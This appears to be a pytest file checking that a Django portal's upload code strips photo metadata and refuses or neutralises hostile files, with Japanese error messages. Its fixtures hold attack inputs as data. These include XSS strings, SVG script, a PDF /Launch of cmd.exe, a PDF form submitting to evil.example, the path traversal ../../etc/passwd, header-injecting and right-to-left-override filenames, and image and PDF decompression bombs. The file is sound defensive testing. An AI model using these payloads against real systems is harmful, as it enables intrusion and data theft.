"""What is kept of a file, and what is refused, by name and in Japanese."""

import io
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.db import Error, connection, transaction
from PIL import Image

from kyodo_portal.files.actions import delete_orphan_files, discard_file, store_file
from kyodo_portal.files.models import StoredFile
from tests.factories import UserFactory
from tests.files import samples

pytestmark = pytest.mark.django_db


@pytest.fixture
def person():
    return UserFactory()


def on_disk():
    root = Path(default_storage.path("private"))
    return sorted(str(p.relative_to(root.parent)) for p in root.rglob("*") if p.is_file())


def refusal(upload, person, **kwargs):
    with pytest.raises(ValidationError) as caught:
        store_file(upload, by=person, **kwargs)
    assert on_disk() == []
    assert not StoredFile.objects.exists()
    return caught.value.messages[0]


@pytest.mark.parametrize(("format", "name"), [("JPEG", "遠足.JPG"), ("PNG", "遠足.png")])
def test_nothing_of_what_the_camera_wrote_is_kept(format, name, person):
    stored = store_file(samples.upload(name, samples.photo(format=format)), by=person)
    for field in (stored.file, stored.thumbnail):
        content = field.open("rb").read()
        assert b"KANARIA" not in content
        image = Image.open(io.BytesIO(content))
        image.load()
        assert not image.getexif()
        assert not {"icc_profile", "exif", "xmp", "comment", "Author"} & set(image.info)
    assert (stored.kind, stored.name, stored.width) == ("image", "遠足.jpg", 640)
    assert stored.thumbnail.size <= 30_000


def test_a_picture_is_turned_upright_and_scaled(person):
    content = samples.photo(3000, 1500, orientation=6)
    stored = store_file(samples.upload("立つ.jpg", content), by=person)
    assert (stored.width, stored.height) == (1000, 2000)


def test_a_drawing_stays_png_and_what_is_see_through_stays_so(person):
    plain = store_file(samples.upload("図.png", samples.drawing()), by=person)
    assert (plain.content_type, plain.name, plain.format) == ("image/png", "図.png", "PNG")
    see_through = samples.photo(200, 200, format="PNG", mode="RGBA")
    assert store_file(samples.upload("印.png", see_through), by=person).format == "PNG"


@pytest.mark.parametrize("mode", ["L", "CMYK"])
def test_pictures_of_printers_and_old_cameras_are_read(mode, person):
    stored = store_file(samples.upload("紙.jpeg", samples.photo(mode=mode)), by=person)
    assert Image.open(stored.file.open("rb")).mode == "RGB"


def test_what_hides_behind_a_picture_is_gone(person):
    both = samples.photo() + b"<script>alert(1)</script>PK\x03\x04"
    stored = store_file(samples.upload("見本.jpg", both), by=person)
    content = stored.file.open("rb").read()
    assert b"script" not in content
    assert content.endswith(b"\xff\xd9")


def test_of_several_frames_the_first_is_kept(person):
    out = io.BytesIO()
    frames = [Image.new("RGB", (60, 40), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    stored = store_file(samples.upload("動く.png", out.getvalue()), by=person)
    image = Image.open(stored.file.open("rb"))
    assert getattr(image, "n_frames", 1) == 1
    assert image.convert("RGB").getpixel((5, 5)) == (255, 0, 0)


BOMBS = [(30_000, 30_000), (65_500, 65_500), (6_000, 5_000)]


@pytest.mark.parametrize(("width", "height"), BOMBS)
def test_an_image_bomb_is_refused_before_it_is_unpacked(width, height, person):
    bomb = samples.upload("爆弾.png", samples.png_header(width, height))
    assert (
        refusal(bomb, person) == "「爆弾.png」：縦と横が大きすぎます。小さくしてから選んでください"
    )


def test_the_largest_photo_that_is_taken_needs_little_memory(person):
    """40 million points: a JPEG is scaled while it is read."""
    out = io.BytesIO()
    Image.new("RGB", (8_000, 5_000), "#4466aa").save(out, "JPEG", quality=50)
    before = peak_memory()
    stored = store_file(samples.upload("大きい.jpg", out.getvalue()), by=person)
    assert (stored.width, stored.height) == (2000, 1250)
    assert peak_memory() - before < 150_000


def peak_memory() -> int:
    import resource

    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
NOT_WHAT_THEY_SAY = [
    ("絵.svg", SVG, "PDF・JPG・PNGのファイルを選んでください"),
    ("ページ.html", b"<script>alert(1)</script>", "PDF・JPG・PNGのファイルを選んでください"),
    ("動く.gif", GIF, "PDF・JPG・PNGのファイルを選んでください"),
    ("名前だけ", b"x", "PDF・JPG・PNGのファイルを選んでください"),
    ("地図.jpg", SVG, "写真として読めません"),
    ("地図.png", b"<html><script>alert(1)</script>", "写真として読めません"),
    ("地図.jpg", GIF, "写真として読めません"),
    ("地図.jpg", b"MZ\x90\x00" + b"\0" * 200, "写真として読めません"),
    ("地図.png", samples.photo(format="PNG")[:200], "写真として読めません"),
    ("地図.jpg", samples.photo()[:300], "写真として読めません"),
    ("会則.pdf", samples.photo(), "PDFとして読めません"),
    ("会則.pdf", b"<html>%PDF-1.7 %%EOF", "PDFとして読めません"),
    ("会則.pdf", samples.pdf()[:-6], "PDFとして読めません"),
    ("会則.jpg", samples.pdf(), "写真として読めません"),
    ("空.pdf", b"", "中身がありません"),
]


@pytest.mark.parametrize(("name", "content", "sentence"), NOT_WHAT_THEY_SAY)
def test_what_is_not_what_it_says_is_refused_by_name(name, content, sentence, person):
    message = refusal(samples.upload(name, content, "image/png"), person)
    assert message.startswith(f"「{name.rpartition('.')[0] or name}")
    assert sentence in message


@pytest.mark.filterwarnings("ignore::UserWarning:PIL")
def test_any_broken_picture_is_refused_with_a_sentence(person):
    """Bytes turned over at many places: some are still pictures, none is a server error."""
    whole, sentences = samples.photo(80, 60), []
    for at in range(2, len(whole), max(1, len(whole) // 60)):
        broken = bytearray(whole)
        broken[at] ^= 0xFF
        try:
            store_file(samples.upload("傷.jpg", bytes(broken)), by=person)
        except ValidationError as error:
            sentences += error.messages
    assert sentences
    assert all(sentence.startswith("「傷.jpg」") for sentence in sentences)


def test_size_is_looked_at_before_the_content(person, settings):
    settings.MAX_IMAGE_MB = settings.MAX_PDF_MB = 1
    big = b"\xff" * (1024 * 1024 + 1)
    assert "大きすぎます（1MBまで）" in refusal(samples.upload("山.jpg", big), person)
    assert "大きすぎます（1MBまで）" in refusal(samples.upload("山.pdf", big), person)


def test_a_feature_may_take_one_kind_only(person):
    photo, paper = samples.upload("a.jpg", samples.photo()), samples.upload("b.pdf", samples.pdf())
    assert "PDFのファイル" in refusal(photo, person, allow=("pdf",))
    assert "JPGかPNGのファイル" in refusal(paper, person, allow=("image",))


def test_a_pdf_is_kept_as_it_is(person):
    text = b"the words /JavaScript and /JS here are only text"
    content = samples.pdf(samples.stream(text))
    stored = store_file(samples.upload("会則.PDF", content), by=person)
    assert (stored.kind, stored.name, stored.size) == ("pdf", "会則.pdf", len(content))
    assert stored.file.open("rb").read() == content
    assert len(stored.sha256) == 64


ACTIVE = [
    b"<< /S /JavaScript /JS (app.alert(1)) >>",
    b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
    b"<< /S /Launch /F (cmd.exe) >>",
    b"<< /Names << /EmbeddedFiles 5 0 R >> >>",
    b"<< /Type /Filespec /EF << /F 6 0 R >> /EmbeddedFile >>",
    b"<< /S /SubmitForm /F (http://evil.example) >>",
    b"<< /Subtype /RichMedia >>",
    samples.stream(b"1 0 2 40 << /S /JavaScript /JS (x) >>", b"/Type /ObjStm /N 1 /First 8"),
]


@pytest.mark.parametrize("content", ACTIVE)
def test_a_pdf_that_does_something_is_refused(content, person):
    message = refusal(samples.upload("会則.pdf", samples.pdf(content)), person)
    assert message.startswith("「会則.pdf」：動くしかけ")


def test_a_pdf_behind_a_password_is_refused(person):
    content = samples.pdf(body=b"trailer << /Encrypt 9 0 R >>\n")
    assert "保護がかかっています" in refusal(samples.upload("会則.pdf", content), person)


def test_a_pdf_made_to_be_slow_is_answered_fast(person):
    import time

    began = time.monotonic()
    endless = b"%PDF-1.7\n" + b"stream\n" * 700_000 + b"%%EOF"
    store_file(samples.upload("長い.pdf", endless), by=person)
    bomb = samples.stream(b"\0" * 30_000_000, b"/Type /ObjStm")
    store_file(samples.upload("ふくらむ.pdf", samples.pdf(*[bomb] * 20)), by=person)
    assert time.monotonic() - began < 3


NAMES = [
    ('a"b\r\nSet-Cookie: x=1.jpg', 'a"b Set-Cookie: x=1.jpg'),
    ("../../etc/passwd.jpg", "passwd.jpg"),
    ("C:\\写真\\庭.jpg", "庭.jpg"),
    ("かな\u202egpj.exe\u202c.jpg", "かなgpj.exe.jpg"),
    ("お祭り；２０２６.jpg", "お祭り；２０２６.jpg"),
    (".jpg", "ファイル.jpg"),
    ("あ" * 300 + ".jpg", "あ" * 80 + ".jpg"),
    ("<img src=x onerror=alert(1)>.jpg", "<img src=x onerror=alert(1)>.jpg"),
]


@pytest.mark.parametrize(("typed", "shown"), NAMES)
def test_a_name_is_text_and_never_a_path(typed, shown, person):
    upload = samples.upload("x.jpg", samples.photo(60, 40))
    upload._name = typed
    stored = store_file(upload, by=person)
    assert stored.name == shown
    place = stored.file.name
    assert place.startswith("private/")
    assert "passwd" not in place
    assert len(place) == len("private/ab/") + 32 + 4


def test_one_owner_has_room_for_so_many_and_so_much(person, settings):
    settings.FILES_PER_OWNER = 2
    for number in (1, 2):
        store_file(samples.upload(f"{number}.png", samples.drawing()), by=person, owner="o:1")
    with pytest.raises(ValidationError, match="置ける量"):
        store_file(samples.upload("3.png", samples.drawing()), by=person, owner="o:1")
    store_file(samples.upload("3.png", samples.drawing()), by=person, owner="o:2")
    settings.FILES_PER_OWNER, settings.FILES_PER_OWNER_MB = 9, 0
    with pytest.raises(ValidationError, match="「4.png」"):
        store_file(samples.upload("4.png", samples.drawing()), by=person, owner="o:1")


def store_and_fail(person, name):
    with transaction.atomic():
        store_file(samples.upload(name, samples.drawing()), by=person)
        assert on_disk() != []
        raise RuntimeError


def store_and_lose_the_connection(person):
    with transaction.atomic():
        store_file(samples.upload("a.png", samples.drawing()), by=person)
        connection.close()
        StoredFile.objects.count()


@pytest.mark.django_db(transaction=True)
def test_a_rollback_takes_the_bytes_away(person):
    with pytest.raises(RuntimeError):
        store_and_fail(person, "a.png")
    assert on_disk() == []
    with transaction.atomic():
        store_file(samples.upload("b.png", samples.drawing()), by=person)
        with pytest.raises(RuntimeError):
            store_and_fail(person, "c.png")
        assert len(on_disk()) == 2
    assert len(on_disk()) == 2
    stored = StoredFile.objects.get()
    with transaction.atomic():
        discard_file(stored)
        transaction.set_rollback(True)
    assert len(on_disk()) == 2
    discard_file(StoredFile.objects.get())
    assert on_disk() == []


@pytest.mark.django_db(transaction=True)
def test_a_connection_that_dies_before_the_commit_leaves_nothing(person):
    with pytest.raises(Error):
        store_and_lose_the_connection(person)
    assert on_disk() == []


def test_orphans_go_after_a_day_and_nothing_else(person):
    import os

    kept = store_file(samples.upload("a.png", samples.drawing()), by=person)
    folder = Path(kept.file.path).parent
    old, young = folder / "old.jpg", folder / "young.jpg"
    for path in (old, young):
        path.write_bytes(b"x")
    long_ago = os.stat(old).st_mtime - 3 * 86_400
    for path in (old, Path(kept.file.path), Path(kept.thumbnail.path)):
        os.utime(path, (long_ago, long_ago))
    assert delete_orphan_files() == 1
    assert not old.exists()
    assert young.exists()
    assert delete_orphan_files() == 0
    assert len(on_disk()) == 3
